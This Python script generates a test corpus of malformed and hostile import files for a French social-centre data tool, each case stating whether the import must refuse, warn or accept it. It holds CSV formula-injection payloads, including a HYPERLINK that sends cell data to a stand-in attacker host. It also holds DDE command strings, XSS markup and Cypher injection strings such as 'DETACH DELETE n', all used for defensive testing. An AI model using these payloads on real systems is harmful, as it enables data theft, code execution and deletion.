"""The bad-file corpus: files as people (and attackers) really send them, each with what the import must do.

Every case is built here from a few valid rows that refer to the demo data (centre CS95-001, school
0959001T, meeting R1), then broken in one way: wrong encodings, mixed separators, truncated and binary
files, an XLSX that is a ZIP of junk, missing and duplicated columns, unknown references, duplicate ids,
values out of vocabulary, bad UAI and INSEE codes, dates that do not exist, huge cells, formulas, HTML
and script. Nothing is committed but this script: the files (one of them 1 MB) are written on demand.

    python3 tests/corpus/make.py DOSSIER     # writes one sub-folder per case, and lists them

A case says its ``outcome``: ``refuse`` (a blocking problem, nothing written), ``warn`` (warnings only,
nothing written) or ``accept`` (loads: formulas and markup are text like any other); for a refusal, the
fragments the problem's place must name (file, sheet, row, column) and a fragment of the fix.
"""

from __future__ import annotations

import csv
import io
import random
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from openpyxl import Workbook

Rows = list[list[str]]
CENTRE, SCHOOL, MEETING, COMMUNE, PRACTICE = "CS95-001", "0959001T", "R1", "95018", "PR-001"
MEGABYTE = 1 << 20

PARTNERSHIP_HEADER = ["id_partenariat", "id_centre", "uai", "forme", "frequence", "objets", "qualite", "depuis",
                      "interlocuteurs"]
PARTNERSHIP = ["PA-9001", CENTRE, SCHOOL, "Convention", "Hebdomadaire", "Parentalité", "Solide", "09/2016",
               "Direction d’école"]
CENTRE_HEADER = ["id_centre", "nom", "type", "code_commune", "adresse", "latitude", "longitude", "activites", "adherent"]
NEW_CENTRE = ["CS95-901", "Centre social fictif des Essais", "Centre social", COMMUNE, "1 rue des Essais", "48,95",
              "2,25", "CLAS", "oui"]
PRACTICE_HEADER = ["id_pratique", "titre", "description", "id_centre", "uai", "themes", "public", "favorise",
                   "fait_marcher", "ressources", "opportunites", "outils", "obstacles", "resultat", "preuves", "debut",
                   "fin", "rencontre"]
NEW_PRACTICE = ["PR-901", "Café des parents", "Un café le jeudi matin.", CENTRE, SCHOOL, "Parentalité", "Parents",
                "La directrice ouvre la salle.", "La régularité.", "Une salle.", "La rentrée.", "Un carnet.",
                "Le temps.", "A marché", "Dix familles viennent.", "09/2018", "06/2019", MEETING]
MEETING_HEADER = ["id_rencontre", "date", "lieu", "code_commune", "theme", "participants"]
NEW_MEETING = ["R901", "23/05/2019", "Maison Pour Tous", COMMUNE, "Les conflits parents–école", CENTRE]

# Formulas a spreadsheet would run when the file is opened (CSV injection), and markup a page would run.
FORMULAS = ('=HYPERLINK("http://attaquant.example/?d="&A1;"Cliquez ici")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1")
MARKUP = ("<script>window.__pwned=1</script>", "<img src=x onerror=\"window.__pwned=1\">",
          "<a href=\"javascript:window.__pwned=1\">lien</a>", "</script><script>window.__pwned=1</script>",
          "<svg onload=\"window.__pwned=1\"></svg>", "{{7*7}} ${7*7} **gras** [lien](javascript:alert(1))")


@dataclass(frozen=True)
class Case:
    name: str
    files: dict[str, bytes]
    outcome: str                    # refuse, warn, accept
    where: tuple[str, ...] = ()     # fragments of the place of a problem (file, sheet, row, column)
    fix: str = ""                   # a fragment of that problem's message: what to do
    load: str = ""                  # the file to load; default: the only file, or the folder
    stored: dict[tuple[str, str], dict[str, object]] = field(default_factory=dict)  # accepted: what must be stored

    def path(self, folder: Path) -> Path:
        """Write the case's files into ``folder`` and return what to load."""
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in self.files.items():
            (folder / name).write_bytes(data)
        if self.load:
            return folder / self.load
        return folder / next(iter(self.files)) if len(self.files) == 1 else folder


def csv_bytes(rows: Rows, delimiter: str = ";", encoding: str = "utf-8-sig") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(sheets: dict[str, Rows], formulas: bool = False) -> bytes:
    """A workbook; with ``formulas``, cells starting with ``=`` are real formulas (no cached value)."""
    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
        if not formulas:
            for line in sheet.iter_rows():
                for cell in line:
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        cell.data_type = "s"  # typed text, as a person who writes ="…" gets it
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_cell(header: list[str], row: list[str], column: str, value: str) -> list[str]:
    changed = list(row)
    changed[header.index(column)] = value
    return changed


def partnership(column: str | None = None, value: str = "", name: str = "partenariats.csv") -> dict[str, bytes]:
    row = PARTNERSHIP if column is None else with_cell(PARTNERSHIP_HEADER, PARTNERSHIP, column, value)
    return {name: csv_bytes([PARTNERSHIP_HEADER, row])}


def centre(column: str, value: str) -> dict[str, bytes]:
    return {"centres.csv": csv_bytes([CENTRE_HEADER, with_cell(CENTRE_HEADER, NEW_CENTRE, column, value)])}


def _junk(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _zip_of_junk() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("junk.bin", _junk(4096, 1))
        archive.writestr("xl/workbook.xml", b"<not-really-xml")
    return buffer.getvalue()


def _valid_xlsx() -> bytes:
    return xlsx_bytes({"partenariats": [PARTNERSHIP_HEADER, PARTNERSHIP]})


def _refusals() -> list[Case]:
    p = "partenariats.csv"
    two_rows = csv_bytes([PARTNERSHIP_HEADER, PARTNERSHIP, with_cell(PARTNERSHIP_HEADER, PARTNERSHIP, "qualite", "Fragile")])
    mixed_separators = (";".join(PARTNERSHIP_HEADER) + "\r\n" + ",".join(PARTNERSHIP) + "\r\n").encode("utf-8")
    mixed_encoding = ("\ufeff" + ";".join(PARTNERSHIP_HEADER) + "\r\n").encode("utf-8")[3:] + (
        ";".join(with_cell(PARTNERSHIP_HEADER, PARTNERSHIP, "forme", "Échanges informels")) + "\r\n").encode("cp1252") + (
        ";".join(with_cell(PARTNERSHIP_HEADER, PARTNERSHIP, "id_partenariat", "PA-9002")) + "\r\n").encode("utf-8")
    full = csv_bytes([PARTNERSHIP_HEADER, PARTNERSHIP, with_cell(PARTNERSHIP_HEADER, PARTNERSHIP, "id_partenariat", "PA-9002")])
    cut_mid_row = full[: full.rindex(b"PA-9002") + 20]
    quoted = csv_bytes([PRACTICE_HEADER, NEW_PRACTICE, with_cell(PRACTICE_HEADER, NEW_PRACTICE, "id_pratique", "PR-902")
                        [:2] + ["Une description\nsur plusieurs lignes, coupée"]])
    cut_in_quote = quoted[: quoted.rindex(b"coup")]
    huge = "x" * MEGABYTE
    valid_uai_unknown = "0959999C"
    return [
        Case("encodage_utf16_sans_bom", {p: csv_bytes([PARTNERSHIP_HEADER, PARTNERSHIP], encoding="utf-16-le")},
             "refuse", (p,), "enregistrez"),
        Case("encodage_melange", {p: mixed_encoding}, "refuse", (p, "ligne 3", "colonne « objets »"), "voulez-vous dire"),
        Case("separateurs_melanges", {p: mixed_separators}, "refuse", (p, "ligne 2"), "remplissez"),
        Case("separateur_virgule_et_decimales", {"centres.csv": csv_bytes([CENTRE_HEADER, NEW_CENTRE], delimiter=",")
                                                 .replace(b'"48,95"', b"48,95").replace(b'"2,25"', b"2,25")},
             "refuse", ("centres.csv", "ligne 2"), "admises"),
        Case("tronque_milieu_de_ligne", {p: cut_mid_row}, "refuse", (p, "ligne 3"), "remplissez"),
        Case("tronque_dans_une_cellule_entre_guillemets", {"pratiques.csv": cut_in_quote}, "refuse",
             ("pratiques.csv", "ligne 3"), "réenregistrez"),
        Case("binaire_aleatoire", {p: _junk(8192, 2)}, "refuse", (p,), "enregistrez"),
        Case("pdf_renomme_csv", {p: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\n\x00\x01\x02endstream"}, "refuse",
             (p,), "enregistrez"),
        Case("png_renomme_xlsx", {"classeur.xlsx": b"\x89PNG\r\n\x1a\n" + _junk(2048, 3)}, "refuse", ("classeur.xlsx",),
             "enregistrez"),
        Case("xlsx_zip_de_rebut", {"classeur.xlsx": _zip_of_junk()}, "refuse", ("classeur.xlsx",), "enregistrez"),
        Case("xlsx_tronque", {"classeur.xlsx": _valid_xlsx()[:3000]}, "refuse", ("classeur.xlsx",), "enregistrez"),
        Case("xlsx_qui_est_un_csv", {"classeur.xlsx": csv_bytes([PARTNERSHIP_HEADER, PARTNERSHIP])}, "refuse",
             ("classeur.xlsx",), "enregistrez"),
        Case("fichier_vide", {p: b""}, "refuse", (p,), "vérifiez"),
        Case("blancs_seulement", {p: b" ; \r\n;;\r\n  \r\n"}, "refuse", (p,), "vérifiez"),
        Case("format_inconnu", {"classeur.ods": _junk(1024, 4)}, "refuse", ("classeur.ods",), "enregistrez"),
        Case("dossier_sans_tableau", {"notes.md": b"# rien"}, "refuse", (), "déposez", load="."),
        Case("colonne_obligatoire_absente", {p: csv_bytes([PARTNERSHIP_HEADER[:1] + PARTNERSHIP_HEADER[2:],
                                                           PARTNERSHIP[:1] + PARTNERSHIP[2:]])},
             "refuse", (p, "ligne 1", "id_centre"), "ajoutez"),
        Case("colonne_identifiant_absente", {p: csv_bytes([PARTNERSHIP_HEADER[1:], PARTNERSHIP[1:]])}, "refuse",
             (p, "ligne 1", "id_partenariat"), "ajoutez"),
        Case("colonne_en_double", {p: csv_bytes([PARTNERSHIP_HEADER + ["Qualité"], PARTNERSHIP + ["Fragile"]])},
             "refuse", (p, "ligne 1", "Qualité"), "supprimez ou renommez"),
        Case("colonne_en_double_xlsx", {"classeur.xlsx": xlsx_bytes(
            {"partenariats": [PARTNERSHIP_HEADER + ["UAI"], PARTNERSHIP + [SCHOOL]]})}, "refuse",
             ("classeur.xlsx", "feuille « partenariats »", "ligne 1", "J (UAI)"), "supprimez ou renommez"),
        Case("feuille_en_double", {"classeur.xlsx": xlsx_bytes(
            {"partenariats": [PARTNERSHIP_HEADER, PARTNERSHIP], "Partenariats ": [PARTNERSHIP_HEADER, PARTNERSHIP]})},
             "refuse", ("classeur.xlsx", "Partenariats"), "gardez une seule feuille"),
        Case("centre_inconnu", partnership("id_centre", "CS95-999"), "refuse", (p, "ligne 2", "colonne « id_centre »"),
             "corrigez le code"),
        Case("ecole_inconnue", partnership("uai", valid_uai_unknown), "refuse", (p, "ligne 2", "colonne « uai »"),
             "corrigez le code"),
        Case("pratique_inconnue", {"retours.csv": csv_bytes([["id_retour", "pratique", "id_centre", "resultat"],
                                                             ["RE-901", "PR-999", CENTRE, "A marché"]])},
             "refuse", ("retours.csv", "ligne 2", "colonne « pratique »"), "corrigez le code"),
        Case("identifiants_en_double", {p: csv_bytes([PARTNERSHIP_HEADER, PARTNERSHIP, PARTNERSHIP])}, "refuse",
             (p, "ligne 3", "colonne « id_partenariat »"), "identifiant différent"),
        Case("identifiants_en_double_xlsx", {"classeur.xlsx": xlsx_bytes(
            {"partenariats": [PARTNERSHIP_HEADER, PARTNERSHIP, [], PARTNERSHIP]})}, "refuse",
             ("classeur.xlsx", "feuille « partenariats »", "ligne 4", "A (id_partenariat)"), "identifiant différent"),
        Case("hors_vocabulaire", partnership("forme", "Partenariat magique"), "refuse", (p, "ligne 2", "colonne « forme »"),
             "Valeurs admises"),
        Case("hors_vocabulaire_faute", partnership("qualite", "solde"), "refuse", (p, "ligne 2", "colonne « qualite »"),
             "voulez-vous dire « Solide »"),
        Case("hors_vocabulaire_liste", partnership("objets", "Parentalité|Magie noire"), "refuse",
             (p, "ligne 2", "colonne « objets »"), "Valeurs admises"),
        Case("uai_lettre_cle_fausse", partnership("uai", "0959001A"), "refuse", (p, "ligne 2", "colonne « uai »"),
             "0959001T"),
        Case("uai_sans_zero", partnership("uai", "959001T"), "refuse", (p, "ligne 2", "colonne « uai »"), "0959001T"),
        Case("uai_sans_lettre", partnership("uai", "0959001"), "refuse", (p, "ligne 2", "colonne « uai »"), "0959001T"),
        Case("insee_sans_zero", centre("code_commune", "1053"), "refuse", ("centres.csv", "ligne 2", "code_commune"),
             "01053"),
        Case("insee_sans_zero_communes", {"communes.csv": csv_bytes([["code_insee", "nom", "code_departement"],
                                                                     ["1053", "Bourg-en-Bresse", "01"]])},
             "refuse", ("communes.csv", "ligne 2", "code_insee"), "01053"),
        Case("date_31_fevrier", {"rencontres.csv": csv_bytes([MEETING_HEADER, with_cell(
            MEETING_HEADER, NEW_MEETING, "date", "31/02/2019")])}, "refuse", ("rencontres.csv", "ligne 2", "« date »"),
             "vérifiez le jour"),
        Case("date_29_fevrier_non_bissextile", {"rencontres.csv": csv_bytes([MEETING_HEADER, with_cell(
            MEETING_HEADER, NEW_MEETING, "date", "2019-02-29")])}, "refuse", ("rencontres.csv", "ligne 2", "« date »"),
             "vérifiez le jour"),
        Case("mois_13", partnership("depuis", "13/2019"), "refuse", (p, "ligne 2", "colonne « depuis »"),
             "vérifiez le jour et le mois"),
        Case("date_en_mots_inconnus", partnership("depuis", "bientôt, promis"), "refuse",
             (p, "ligne 2", "colonne « depuis »"), "écrivez par exemple"),
        Case("cellule_enorme_csv", {"pratiques.csv": csv_bytes([PRACTICE_HEADER, with_cell(
            PRACTICE_HEADER, NEW_PRACTICE, "description", huge)])}, "refuse",
             ("pratiques.csv", "ligne 2", "colonne « description »"), "raccourcissez"),
        Case("cellule_enorme_xlsx", {"classeur.xlsx": xlsx_bytes({"pratiques": [PRACTICE_HEADER, with_cell(
            PRACTICE_HEADER, NEW_PRACTICE, "description", huge)]})}, "refuse",
             ("classeur.xlsx", "feuille « pratiques »", "ligne 2", "C (description)"), "raccourcissez"),
        Case("titre_trop_long", {"pratiques.csv": csv_bytes([PRACTICE_HEADER, with_cell(
            PRACTICE_HEADER, NEW_PRACTICE, "titre", "Café " * 200)])}, "refuse",
             ("pratiques.csv", "ligne 2", "colonne « titre »"), "raccourcissez"),
        Case("nombre_en_lettres", centre("latitude", "quarante-huit"), "refuse", ("centres.csv", "ligne 2", "latitude"),
             "écrivez par exemple"),
        Case("nombre_hors_limites", centre("latitude", "200"), "refuse", ("centres.csv", "ligne 2", "latitude"),
             "hors des limites"),
        Case("population_mal_ecrite", {"communes.csv": csv_bytes([["code_insee", "nom", "code_departement", "population"],
                                                                  [COMMUNE, "Argenteuil", "95", "1.234.567"]])},
             "refuse", ("communes.csv", "ligne 2", "population"), "nombre entier"),
        Case("oui_non_douteux", centre("adherent", "peut-être"), "refuse", ("centres.csv", "ligne 2", "adherent"),
             "« oui » ou « non »"),
        Case("obligatoire_vide", centre("nom", ""), "refuse", ("centres.csv", "ligne 2", "« nom »"), "remplissez"),
        Case("identifiant_injection", partnership("id_partenariat", "x'}) DETACH DELETE n //"), "refuse",
             (p, "ligne 2", "id_partenariat"), "utilisez lettres"),
        Case("identifiant_formule", partnership("id_partenariat", "=1+1"), "refuse", (p, "ligne 2", "id_partenariat"),
             "utilisez lettres"),
        Case("identifiant_script", partnership("id_partenariat", "<script>alert(1)</script>"), "refuse",
             (p, "ligne 2", "id_partenariat"), "utilisez lettres"),
        Case("reference_injection", partnership("id_centre", "CS95-001' OR 1=1 //"), "refuse",
             (p, "ligne 2", "id_centre"), "utilisez lettres"),
        Case("formules_xlsx_sans_valeur", {"classeur.xlsx": xlsx_bytes({"pratiques": [PRACTICE_HEADER, with_cell(
            PRACTICE_HEADER, NEW_PRACTICE, "titre", FORMULAS[0])]}, formulas=True)}, "refuse",
             ("classeur.xlsx", "feuille « pratiques »", "ligne 2", "B (titre)"), "remplissez"),
        Case("deux_lignes_dont_une_fausse", {p: two_rows.replace(b"Fragile", b"Fragilissime")}, "refuse",
             (p, "ligne 3", "colonne « qualite »"), "Valeurs admises"),
        Case("feuille_inconnue", {"eleves.csv": csv_bytes([["nom", "classe"], ["Léa", "CM2"]])}, "warn",
             ("eleves.csv",), "feuilles attendues"),
        Case("en_tete_seul", {p: csv_bytes([PARTNERSHIP_HEADER])}, "warn", (p,), "supprimez-les dans l’application"),
    ]


def _hostile_practice() -> tuple[list[str], dict[str, object]]:
    """A practice with a hostile string in every text field, and the values the graph must then hold."""
    texts = [*FORMULAS, *MARKUP]
    text_fields = ("titre", "description", "favorise", "fait_marcher", "ressources", "opportunites", "outils",
                   "obstacles", "preuves")
    row = list(NEW_PRACTICE)
    stored: dict[str, object] = {}
    for n, name in enumerate(text_fields):
        value = texts[n % len(texts)] + " " + texts[(n + 5) % len(texts)]
        row[PRACTICE_HEADER.index(name)] = value
        stored[name] = value
    return row, stored


def _acceptable() -> list[Case]:
    practice, stored = _hostile_practice()
    formula_centre = with_cell(CENTRE_HEADER, with_cell(CENTRE_HEADER, NEW_CENTRE, "nom", FORMULAS[0]), "adresse",
                               FORMULAS[1])
    formula_partnership = with_cell(PARTNERSHIP_HEADER, with_cell(PARTNERSHIP_HEADER, PARTNERSHIP, "id_centre",
                                                                  "CS95-901"), "id_partenariat", "PA-9901")
    control = "Centre\u202e des \x1b[31mEssais\u200b"
    return [
        Case("encodage_windows_1252", {"centres.csv": csv_bytes([CENTRE_HEADER, NEW_CENTRE], encoding="cp1252")},
             "accept", stored={("Centre", "CS95-901"): {"nom": "Centre social fictif des Essais"}}),
        Case("formules_texte_csv", {"centres.csv": csv_bytes([CENTRE_HEADER, formula_centre]),
                                    "partenariats.csv": csv_bytes([PARTNERSHIP_HEADER, formula_partnership])},
             "accept", stored={("Centre", "CS95-901"): {"nom": FORMULAS[0], "adresse": FORMULAS[1]},
                                ("Partenariat", "PA-9901"): {"forme": "convention"}}),
        Case("formules_texte_xlsx", {"classeur.xlsx": xlsx_bytes({"centres": [CENTRE_HEADER, with_cell(
            CENTRE_HEADER, NEW_CENTRE, "nom", FORMULAS[2])]})}, "accept",
             stored={("Centre", "CS95-901"): {"nom": FORMULAS[2]}}),
        Case("html_et_script_partout", {"pratiques.csv": csv_bytes([PRACTICE_HEADER, practice])}, "accept",
             stored={("Pratique", "PR-901"): stored}),
        Case("caracteres_de_controle", centre("nom", control), "accept",
             stored={("Centre", "CS95-901"): {"nom": control}}),
    ]


CASES: list[Case] = _refusals() + _acceptable()


def write_all(folder: Path, cases: list[Case] = CASES, out: Callable[[str], None] = print) -> None:
    for case in cases:
        out(f"{case.outcome:7} {case.path(folder / case.name)}")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python3 tests/corpus/make.py DOSSIER")
    write_all(Path(sys.argv[1]))
